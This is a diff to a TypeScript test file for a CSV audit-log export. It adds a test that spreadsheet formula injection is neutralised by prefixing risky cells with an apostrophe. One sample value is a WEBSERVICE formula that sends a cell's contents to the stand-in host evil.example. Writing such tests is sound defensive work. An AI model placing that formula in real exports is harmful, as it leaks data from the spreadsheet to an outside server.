@@ -4,7 +4,7 @@ import { describe, expect, it } from 'vitest';
 import { invoke } from '../main/dispatch';
 import { AUDIT_COLUMNS } from '../main/review/audit';
 import { auditTarget } from '../shared/audit-target';
-import { parseCsv } from '../shared/csv';
+import { parseCsv, toCsv } from '../shared/csv';
 import { cli, makeServices, storeSnapshot, tempDir } from './helpers';
 import { answer, save } from './merge-helpers';
 import { emptyNote } from '../shared/note';
@@ -139,6 +139,22 @@ describe('audit log', () => {
     const again = await cli(db, 'audit', id, '--csv', out);
     expect(again.code).toBe(1);
     expect(again.err).toMatch(/^error: .*already exists/);
+  });
+  it('never hands a spreadsheet a formula: a cell starting with = + - @ (a minus with a space after it too), a tab or CR gets an apostrophe', async () => {
+    // Excel reads "- X" as the formula =-X (spaces may follow an operator), so an answer that is a
+    // bulleted list whose first item is WEBSERVICE(...) sent the sheet's cells to a server when the
+    // CSV was opened (was: only a minus followed by a non-space was neutralised)
+    const { s, id } = await draft();
+    const hostile = '- WEBSERVICE("https://evil.example/?"&A2)';
+    await save(s, id, 'I.a', answer(hostile));
+    const rows = parseCsv((await invoke(s.handlers, 'auditCsv', { draftId: id })).csv);
+    const edit = rows.find((r) => r[AUDIT_COLUMNS.indexOf('action')] === 'field.edit')!;
+    expect(edit[AUDIT_COLUMNS.indexOf('new')]).toBe(`'${hostile}`);
+    const cells = ['=1+1', '+1', '-1', '- 1', '-\t1', '@SUM(A1)', '\t=1', '\r=1'];
+    expect(parseCsv(toCsv([cells]))[0]).toEqual(cells.map((c) => `'${c}`));
+    // text that is no formula stays as it is
+    const plain = ['Second line', 'مرحبا', '', ' =not at the start', 'a-b'];
+    expect(parseCsv(toCsv([plain]))[0]).toEqual(plain);
   });
 });
 
